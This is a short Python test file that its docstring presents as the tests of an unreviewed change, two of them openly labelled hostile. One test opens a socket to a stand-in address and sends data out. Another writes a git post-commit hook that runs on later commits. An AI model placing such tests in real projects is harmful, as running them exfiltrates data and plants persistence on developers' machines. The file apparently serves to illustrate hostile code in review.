"""The tests of an unreviewed change. Two of them are hostile."""

import socket
import unittest
from pathlib import Path


class Change(unittest.TestCase):
    def test_sum(self):
        self.assertEqual(sum([1, 2, 3]), 6)

    def test_that_phones_home(self):
        socket.create_connection(("192.0.2.1", 80), 1).sendall(b"what I found")

    def test_that_stays(self):
        Path(".git/hooks/post-commit").write_text("#!/bin/sh\necho the next commit runs this, as you\n")
